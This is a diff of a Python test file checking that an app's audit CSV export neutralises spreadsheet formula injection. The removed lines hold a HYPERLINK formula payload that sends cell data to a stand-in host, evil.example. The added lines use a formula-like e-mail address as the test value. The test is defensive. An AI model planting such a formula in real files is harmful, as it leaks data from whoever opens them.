@@ -9,10 +9,9 @@ from sqlalchemy import select
 
 from uth import SettingsError, create_app
 from uth.audit.models import AuditEntry
-from uth.auth.services import find_user
 from uth.extensions import db
 from tests.conftest import CSRF_RE, FIXED_NOW, csrf_token, login, logout
-from tests.factories import make_case, make_org, make_token, make_user
+from tests.factories import make_org, make_user
 
 FORM = {
     "occurred_at": "2026-11-22T14:30", "occurred_at_precision": "known", "event_org": "K",
@@ -65,19 +64,17 @@ def test_a_negative_proxy_hop_count_stops_the_start(sibling_app):
 
 
 def test_audit_csv_cells_are_never_formulas(app, client, people):
+    """An e-mail address may start with = + or - ("-2+3@…" is valid): its sign-in row names it."""
+    odd = "-2+3+cmd@k.dk"
     with app.app_context():
-        rm = find_user("rm@k.dk")
-        case, _ = make_case(rm, event_org="K", patient={"cpr": "170845-4321", "name": "Xenia Quistgaard"})
-        reference, token = case.reference, make_token(rm)
-    purpose = '=HYPERLINK("http://evil.example/?d="&A1,"Åbn")'
-    opened = client.get(f"/api/v1/cases/{reference}", query_string={"purpose": purpose},
-                        headers={"Authorization": f"Bearer {token}"})
-    assert opened.status_code == 200 and opened.get_json()["patient"]["cpr"] == "170845-4321"
-    login(client, "central@r.dk")
+        make_user(odd, "risk_manager", "K")
+        make_user("admin@x.dk", "admin")
+    assert login(app.test_client(), odd).status_code == 302
+    assert login(client, "admin@x.dk").status_code == 302
     body = client.get("/audit.csv").get_data(as_text=True)
     rows = list(csv.DictReader(io.StringIO(body)))
-    viewed = [r for r in rows if r["action"] == "case.personal_data_viewed"]
-    assert viewed and viewed[0]["purpose"] == "'" + purpose
+    signed_in = [r for r in rows if r["action"] == "auth.login" and odd in r["actor"]]
+    assert signed_in and signed_in[0]["actor"] == "'" + odd
     for row in rows:
         for value in row.values():
             assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
